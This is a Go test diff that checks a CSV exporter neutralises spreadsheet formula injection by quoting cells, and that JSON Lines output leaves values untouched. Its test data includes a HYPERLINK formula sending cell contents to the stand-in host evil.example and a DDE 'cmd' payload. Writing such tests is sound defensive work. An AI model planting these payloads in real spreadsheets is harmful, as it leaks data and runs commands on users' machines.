@@ -134,3 +134,45 @@ func TestEmptyAndUnknown(t *testing.T) {
 		t.Error(err)
 	}
 }
+
+// TestCSVFormulaCellsAreInert: a cell a spreadsheet would evaluate (OWASP's
+// = + - @ tab CR, and their full-width forms) is written with a leading
+// quote; JSON Lines, Parquet and zip keep the value as it is.
+func TestCSVFormulaCellsAreInert(t *testing.T) {
+	hostile := []string{`=HYPERLINK("https://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+		"\t=1+1", "\r=1+1", "＝1+1", "\x00=1"}
+	recs := func(yield func(exports.Record, error) bool) {
+		for i, h := range hostile {
+			if !yield(exports.Record{ID: "c" + string(rune('a'+i)), Title: h, URL: h, Text: h, Metadata: map[string]any{}}, nil) {
+				return
+			}
+		}
+		yield(exports.Record{ID: "plain", Title: "Quarterly = good", URL: "https://example.org/", Text: "'already quoted"}, nil)
+	}
+	var b bytes.Buffer
+	if _, err := exports.WriteAll(exports.CSV, &b, recs); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, h := range hostile {
+		for _, col := range []int{4, 5, 9} { // title, url, text
+			if got := rows[i+1][col]; got != "'"+h {
+				t.Errorf("cell %q written as %q", h, got)
+			}
+		}
+	}
+	if last := rows[len(rows)-1]; last[4] != "Quarterly = good" || last[5] != "https://example.org/" || last[9] != "'already quoted" {
+		t.Errorf("ordinary cells changed: %q", last)
+	}
+	var j bytes.Buffer
+	if _, err := exports.WriteAll(exports.JSONL, &j, recs); err != nil {
+		t.Fatal(err)
+	}
+	var first exports.Record
+	if err := json.Unmarshal([]byte(strings.SplitN(j.String(), "\n", 2)[0]), &first); err != nil || first.Title != hostile[0] {
+		t.Errorf("jsonl changed the value: %+v %v", first, err)
+	}
+}
